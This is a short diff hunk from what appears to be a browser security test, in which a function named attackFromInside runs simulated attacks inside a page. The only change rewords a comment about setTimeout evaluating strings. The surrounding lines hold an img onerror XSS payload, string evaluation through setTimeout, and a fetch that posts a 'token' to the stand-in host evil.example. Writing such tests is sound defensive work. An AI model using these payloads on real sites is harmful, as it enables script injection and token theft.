@@ -33,7 +33,7 @@ async function attackFromInside(page: Page): Promise<void> {
     const image = document.createElement('div');
     image.innerHTML = '<img src="data:," onerror="window.hacked = 1" alt="">';
     document.body.append(image);
-    // A text where a function is due is what `eval` is to a timer.
+    // A timer evaluates a string that it gets in place of a function, as `eval` does.
     Reflect.apply(setTimeout, window, ['window.hacked = "timer"', 0]);
     await fetch('https://evil.example/send', { method: 'POST', body: 'token' }).catch(() => undefined);
     document.querySelector<HTMLElement>('#evil-link')?.click();
